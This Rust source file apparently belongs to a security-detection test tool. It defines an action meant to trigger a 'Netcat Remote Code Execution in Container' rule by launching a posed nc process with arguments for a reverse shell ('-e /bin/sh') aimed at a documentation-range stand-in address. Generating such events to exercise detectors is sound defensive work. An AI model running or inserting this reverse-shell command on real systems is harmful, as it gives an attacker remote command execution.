//! Starts netcat with a shell for the remote end. Nothing is contacted.

use super::super::{Action, ActionEnvironment, Stop};

pub(super) const ACTION: Action = Action::new(
    "syscall.NetcatRemoteCodeExecutionInContainer",
    "start a process called `nc` with a shell to run",
    play,
)
.rule("Netcat Remote Code Execution in Container")
.inside();

fn play(scene: &ActionEnvironment) -> Result<(), Stop> {
    let mut nc = scene.pose("nc")?;
    nc.args(["-e", "/bin/sh", "192.0.2.1", "22"]);
    scene.run(nc)
}
